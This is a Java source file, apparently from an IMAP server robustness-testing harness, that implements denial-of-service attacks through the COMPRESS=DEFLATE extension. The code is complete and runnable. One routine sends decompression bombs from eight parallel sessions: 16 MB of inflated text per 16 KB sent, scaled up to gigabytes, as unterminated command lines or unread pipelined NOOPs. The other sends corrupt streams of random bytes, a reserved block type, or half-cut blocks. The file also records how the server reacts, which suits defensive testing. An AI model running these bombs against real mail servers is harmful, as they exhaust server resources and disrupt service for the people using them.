package satchel.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;
import java.util.zip.Deflater;

/** Class (g): COMPRESS=DEFLATE (RFC 4978) abused: inflation bombs and corrupt streams. */
final class Deflate {
    private Deflate() {}

    /**
     * Raw DEFLATE of {@code text} repeated {@code times}, ended by a sync flush and never by a final block, so
     * such segments can be sent one after another as one endless stream: each is compressed from a fresh state
     * and refers to nothing before it.
     */
    static byte[] segment(byte[] text, int times) {
        Deflater d = new Deflater(Deflater.BEST_COMPRESSION, true);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] buf = new byte[64 * 1024];
        for (int i = 0; i < times; i++) {
            d.setInput(text);
            while (!d.needsInput()) out.write(buf, 0, d.deflate(buf, 0, buf.length, Deflater.NO_FLUSH));
        }
        for (int n; (n = d.deflate(buf, 0, buf.length, Deflater.SYNC_FLUSH)) > 0; ) out.write(buf, 0, n);
        d.end();
        return out.toByteArray();
    }

    /** Logs in, turns on COMPRESS, and returns the raw socket output; null when refused. */
    private static OutputStream compressed(Ctx ctx, Wire w) throws IOException {
        if (!w.command("z", "COMPRESS DEFLATE").startsWith("z OK")) return null;
        return w.rawOut();
    }

    /**
     * Half the sessions send one command line that inflates to bombBytes without a CRLF; the other half send
     * bombBytes of pipelined NOOPs and never read the answers. 16 MB of text costs ~16 KB on the wire.
     */
    record Bomb() implements Attack {
        @Override public String name() { return "g-deflate-bomb"; }
        @Override public String what() { return "COMPRESS=DEFLATE bombs: a line inflating to 1 GB without CRLF; 1 GB of pipelined NOOPs unread"; }

        @Override public String run(Ctx ctx) {
            byte[] a = segment(Ctx.filler(1 << 20, 'a'), 16);
            byte[] noops = segment("x NOOP\r\n".repeat(1 << 17).getBytes(StandardCharsets.US_ASCII), 16);
            long rounds = Math.max(1, ctx.sizes().bombBytes() / (16 << 20));
            AtomicLong inflated = new AtomicLong();
            AtomicLong wire = new AtomicLong();
            AtomicInteger refused = new AtomicInteger();
            AtomicInteger cut = new AtomicInteger();
            AtomicLong errors = new AtomicLong();
            ctx.parallel(8, errors, i -> {
                Wire w = ctx.login(0, i, 4096);
                OutputStream out = w == null ? null : compressed(ctx, w);
                if (out == null) {
                    refused.incrementAndGet();
                    return;
                }
                byte[] bomb = i % 2 == 0 ? a : noops;
                try {
                    if (i % 2 == 0) out.write(segment("b SEARCH TEXT ".getBytes(StandardCharsets.US_ASCII), 1));
                    for (long r = 0; r < rounds && ctx.timeLeft(); r++) {
                        out.write(bomb);
                        out.flush();
                        wire.addAndGet(bomb.length);
                        inflated.addAndGet(16 << 20);
                    }
                } catch (IOException e) {
                    cut.incrementAndGet();
                    return;
                }
                if (w.closedWithin(Math.min(ctx.msLeft(), 3000))) cut.incrementAndGet();
            });
            return "8 sessions: " + inflated.get() / (1 << 20) + " MB inflated from " + wire.get() / 1024 + " KB sent, "
                    + cut + " cut by the server, " + refused + " refused COMPRESS, " + errors + " errors";
        }
    }

    /** After COMPRESS OK: random bytes, an invalid block type, or a stream cut off in the middle of a block. */
    record Corrupt() implements Attack {
        @Override public String name() { return "g-deflate-corrupt"; }
        @Override public String what() { return "corrupt DEFLATE after COMPRESS: random bytes, a reserved block type, a block cut in half"; }

        @Override public String run(Ctx ctx) {
            AtomicInteger closed = new AtomicInteger();
            AtomicInteger open = new AtomicInteger();
            AtomicInteger refused = new AtomicInteger();
            AtomicInteger sessions = new AtomicInteger();
            AtomicLong errors = new AtomicLong();
            byte[] valid = segment("n NOOP\r\n".getBytes(StandardCharsets.US_ASCII), 1);
            ctx.parallel(3, errors, kind -> {
                for (int k = 0; k < 20 && ctx.timeLeft(); k++) {
                    Wire w = ctx.login(0, kind, 0);
                    OutputStream out = w == null ? null : compressed(ctx, w);
                    if (out == null) {
                        refused.incrementAndGet();
                        continue;
                    }
                    sessions.incrementAndGet();
                    byte[] junk = new byte[1024];
                    java.util.concurrent.ThreadLocalRandom.current().nextBytes(junk);
                    switch (kind) {
                        case 0 -> out.write(junk);
                        case 1 -> out.write(new byte[] {0x07, 0x00, 0x00}); // BFINAL=1, BTYPE=11: reserved (RFC 1951 §3.2.3)
                        default -> out.write(valid, 0, valid.length / 2);
                    }
                    out.flush();
                    // Cut in half: the server cannot know more is not coming, so staying open is right for it
                    if (w.closedWithin(Math.min(ctx.msLeft(), kind == 2 ? 500 : 3000))) closed.incrementAndGet();
                    else open.incrementAndGet();
                    w.close();
                }
            });
            return sessions + " corrupt streams: " + closed + " closed by the server, " + open
                    + " left open (expected only for the cut-in-half third), " + refused + " refused, " + errors + " errors";
        }
    }
}
